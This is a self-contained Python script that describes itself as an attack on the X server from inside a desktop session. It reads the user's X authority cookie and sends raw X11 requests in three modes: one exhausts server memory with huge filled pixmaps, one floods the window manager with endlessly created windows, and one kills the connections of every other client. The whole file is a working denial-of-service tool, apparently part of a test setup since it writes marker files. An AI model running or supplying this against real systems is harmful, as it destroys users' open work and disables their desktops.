"""Attacks the X server from inside a desktop: python3 x_flood.py HOW. Standard library alone.

`pixmaps` makes large pictures and draws in each, so that the server has to hold them. `windows` makes windows and maps
them without end, which the window manager has to manage. `clients` ends the connections of all other clients but the
window manager's. The file `flooding` is there once it has begun.
"""

import os
import socket
import struct
import sys
from pathlib import Path

REPLY = 1
SIDE = 4096  # pixels of a pixmap: 64 MB


def cookie():
    """The data of the first entry of the authority file: family, address, number, name, data, each with its length."""
    data, at, fields = Path(os.environ["XAUTHORITY"]).read_bytes(), 2, []
    for _ in range(4):
        (size,) = struct.unpack_from(">H", data, at)
        fields.append(data[at + 2 : at + 2 + size])
        at += 2 + size
    return fields[3]


def connect():
    """(connection, first id of ours, root window): of X11's setup, little endian."""
    channel = socket.socket(socket.AF_UNIX)
    channel.connect("/tmp/.X11-unix/X" + os.environ["DISPLAY"].partition(":")[2].partition(".")[0])
    name, data = b"MIT-MAGIC-COOKIE-1", cookie()
    channel.sendall(
        struct.pack("<BxHHHHxx", ord("l"), 11, 0, len(name), len(data)) + name + b"\0" * (-len(name) % 4) + data
    )
    head = receive(channel, 8)
    if head[0] != 1:
        raise OSError("not allowed")
    body = receive(channel, 4 * struct.unpack_from("<H", head, 6)[0])
    base = struct.unpack_from("<I", body, 4)[0]
    vendor, formats = struct.unpack_from("<H", body, 16)[0], body[21]
    root = struct.unpack_from("<I", body, 32 + vendor + -vendor % 4 + 8 * formats)[0]
    return channel, base, root


def receive(channel, count):
    data = b""
    while len(data) < count:
        more = channel.recv(count - len(data))
        if not more:
            raise OSError("the server closed the connection")
        data += more
    return data


def pixmaps(channel, base, root):
    channel.sendall(struct.pack("<BxHIII", 55, 4, base, root, 0))  # CreateGC
    for number in range(1, 1000):
        picture = base + number
        channel.sendall(struct.pack("<BBHIIHH", 53, 24, 4, picture, root, SIDE, SIDE))  # CreatePixmap
        channel.sendall(struct.pack("<BxHIIhhHH", 70, 5, picture, base, 0, 0, SIDE, SIDE))  # PolyFillRectangle
        Path("flooding").touch()


def windows(channel, base, root):
    number = 0
    while True:
        number += 1
        window = base + number % 100_000
        place = number % 500
        if number > 200:
            channel.sendall(struct.pack("<BxHI", 4, 2, base + (number - 200) % 100_000))  # DestroyWindow
        channel.sendall(
            struct.pack("<BBHIIhhHHHHII", 1, 0, 8, window, root, place, place, 100, 100, 0, 1, 0, 0)  # CreateWindow
            + struct.pack("<BxHI", 8, 2, window)  # MapWindow
        )
        if number == 50:
            Path("flooding").touch()


def clients(channel, base, root):
    """Ends the connections of all clients that have made anything (KillClient), but for its own and that of the window
    manager, whose check window xprop prints at the end."""
    told = os.popen("xprop -root _NET_SUPPORTING_WM_CHECK").read()
    manager = int(told.split()[-1], 16) >> 21
    Path("flooding").touch()
    for client in range(1, 256):
        if client not in (base >> 21, manager):
            for number in range(64):
                channel.sendall(struct.pack("<BxHI", 113, 2, (client << 21) + number))
    channel.sendall(struct.pack("<BxH", 43, 1))  # GetInputFocus: the server answers when it has done all before it
    while receive(channel, 32)[0] != REPLY:
        pass
    Path("ended").touch()


def main(how):
    channel, base, root = connect()
    if how != "clients" and os.fork() == 0:  # errors and events must not fill the connection
        while channel.recv(65536):
            pass
        os._exit(0)
    {"clients": clients, "pixmaps": pixmaps, "windows": windows}[how](channel, base, root)


if __name__ == "__main__":
    main(sys.argv[1])
